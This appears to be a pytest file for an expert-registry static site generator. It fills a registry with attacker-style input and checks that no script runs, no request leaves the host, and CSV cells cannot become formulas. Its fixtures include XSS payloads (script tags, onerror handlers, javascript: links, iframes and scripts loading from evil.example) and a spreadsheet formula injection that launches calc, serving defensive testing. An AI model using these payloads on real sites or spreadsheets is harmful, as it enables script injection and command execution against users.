"""A registry written by an attacker: script in every setting and in announcement bodies, formulas in
open-data cells, personal data in hand-written pages. No script of it runs on the site, no request
leaves the host, and the build refuses what it must (issue 11)."""

from __future__ import annotations

import csv
import io
import shutil
from dataclasses import dataclass
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from site_fixture import Fixture, write_registry

from conftest import REPO, Page, Server
from roster.check.validate import open_registry
from roster.commands.reference import generated_pages
from roster.site.build import BuildResult, build_site
from roster.site.context import SiteError

TODAY = date(2026, 6, 1)

SETTINGS: dict[str, str] = {
    "title": '专家库<script>alert("title")</script>',
    "host": '主办单位"><img src=x onerror=alert("host")>',
    "site_code": "<svg onload=alert('code')>",
    "icp": "<iframe src=https://evil.example/icp></iframe>",
    "psb": "'><script src=https://evil.example/psb.js></script>",
}
BUREAU = {"name": '<script>alert("bureau")</script>示例局', "office": "<img src=https://evil.example/o.png>科"}
HOW_TO_OBJECT = "<img src=x onerror=alert('how')>以书面形式实名反映"
TITLE = '<script>alert("atitle")</script>入库公示'
BODY = """\
经审查，现予公示。<script>alert("body")</script>

<img src=x onerror=alert("img")>
<iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(https://evil.example/bg.png) }</style>

[点我查看](javascript:alert("link")) · <a href="javascript:alert('a')">原始链接</a> · [官网](https://ybj.example.gov.cn/)

![外部图片](https://evil.example/track.png) ![协议相对](//evil.example/t.png) ![本站图片](../../assets/none.png)

**加粗** 与列表：

- 第一条
- 第二条
"""
FORMULA = '=cmd|"/c calc"!A1'


@dataclass(frozen=True)
class Hostile:
    fixture: Fixture
    result: BuildResult


def _edit(path: Path, change: Any) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _build(root: Path, out: Path, docs: Path = REPO / "docs") -> BuildResult:
    return build_site(open_registry(root, use_cache=False), out, config=REPO / "mkdocs.yml", docs=docs,
                      schemas=REPO / "schemas", today=TODAY, extra_pages=generated_pages())


def _hostile_registry(root: Path) -> Fixture:
    fx = write_registry(root, draws=1, announcements=2, today=TODAY)

    def settings(data: dict[str, Any]) -> None:
        data["site"].update(SETTINGS)
        data["bureau"].update(BUREAU)
        data["announcements"]["how_to_object"] = HOW_TO_OBJECT

    _edit(root / "registry.yaml", settings)
    for path in sorted((root / "announcements").rglob("*.yaml")):
        _edit(path, lambda a: a.update({"title": TITLE, "body": BODY}))
    _edit(root / "experts" / "E00001.yaml", lambda e: e.update({"specialties": [FORMULA]}))
    return fx


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    fx = _hostile_registry(base / "registry")
    return Hostile(fx, _build(fx.root, base / "build"))


def _pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


class _Markup(HTMLParser):
    """What a browser would make of a page: elements, attributes and script text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        if tag in ("iframe", "object", "embed", "style"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or value.startswith("javascript:") or "evil.example" in value:
                self.bad.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and "alert" in data:
            self.bad.append(f"<script>{data[:40]}")


def test_no_setting_or_body_reaches_a_page_as_markup(hostile: Hostile) -> None:
    pages = _pages(hostile.result.site_dir)
    assert len(pages) > 10
    for page in pages:
        markup = _Markup()
        markup.feed(page.read_text(encoding="utf-8"))
        assert markup.bad == [], page
    notice = (hostile.result.site_dir / "notices" / "a2026-001" / "index.html").read_text(encoding="utf-8")
    assert "<strong>加粗</strong>" in notice and "<li>第一条</li>" in notice
    assert 'href="https://ybj.example.gov.cn/"' in notice
    assert '&lt;script&gt;alert("body")&lt;/script&gt;' in notice  # shown as text, not run


def test_open_data_csv_cells_cannot_be_formulas(hostile: Hostile) -> None:
    text = (hostile.result.site_dir / "opendata" / "experts.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_site_url_that_is_not_a_web_address_is_refused(tmp_path: Path) -> None:
    fx = write_registry(tmp_path / "registry", draws=1, announcements=1, today=TODAY)
    _edit(fx.root / "registry.yaml", lambda d: d["site"].update({"url": 'https://x.example/"><script>alert(1)</script>'}))
    with pytest.raises(SiteError, match=r"名册未通过校验（1 个错误），不能生成网站.*registry\.yaml.*site\.url"):
        _build(fx.root, tmp_path / "build")
    assert not (tmp_path / "build" / "site").exists()


def test_a_registry_that_does_not_validate_is_not_built(tmp_path: Path) -> None:
    fx = write_registry(tmp_path / "registry", draws=1, announcements=1, today=TODAY)
    _edit(fx.root / "experts" / "E00002.yaml", lambda e: e.update({"employer": "I0999"}))
    with pytest.raises(SiteError, match=r"名册未通过校验.*E00002\.yaml:9: employer 引用的单位“I0999”不存在"):
        _build(fx.root, tmp_path / "build")


def test_personal_data_in_a_hand_written_page_fails_the_build(tmp_path: Path) -> None:
    fx = write_registry(tmp_path / "registry", draws=1, announcements=1, today=TODAY)
    docs = tmp_path / "docs"
    shutil.copytree(REPO / "docs", docs)
    (docs / "zhiban.md").write_text("# 联系\n\n值班：&#49;38 1234 5678，邮箱 duty＠example.com\n", encoding="utf-8")
    with pytest.raises(SiteError) as caught:
        _build(fx.root, tmp_path / "build", docs=docs)
    message = str(caught.value)
    assert "生成的网站中发现疑似个人信息" in message and "zhiban/index.html 第" in message
    assert "手机号码" in message and "电子邮箱" in message
    assert "1234" not in message and "duty" not in message
    assert not (tmp_path / "build" / "site").exists()


# --- in the browser ------------------------------------------------------------------------------

HOOK = """
window.__ran = [];
for (const name of ['alert', 'confirm', 'prompt']) {
  window[name] = (...args) => { window.__ran.push(name + ':' + args.join(',')); };
}
"""


@pytest.mark.browser
def test_no_script_of_the_registry_runs_and_no_request_leaves_the_host(hostile: Hostile, phone: Page) -> None:
    server = Server(hostile.result.site_dir)
    dialogs: list[str] = []
    console: list[str] = []
    phone.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    phone.page.on("console", lambda m: console.append(m.text))
    phone.context.add_init_script(HOOK)
    try:
        for path in ("", "notices/", "notices/a2026-001/", "notices/a2026-002/", "experts/medical/", "opendata/"):
            response = phone.page.goto(server.url + path, wait_until="load")
            assert response is not None and response.ok, path
            phone.page.wait_for_timeout(200)
            assert phone.page.evaluate("window.__ran") == [], path
        phone.page.goto(server.url + "notices/a2026-001/", wait_until="load")
        link = phone.page.get_by_text("点我查看")
        assert link.get_attribute("href") is None
        link.click()
        phone.page.wait_for_timeout(200)
        assert phone.page.evaluate("window.__ran") == []
    finally:
        server.close()
    assert dialogs == []
    assert phone.foreign == [], f"requests to other hosts: {phone.foreign}"
    assert phone.errors == [], phone.errors
    assert not any("alert" in c for c in console)
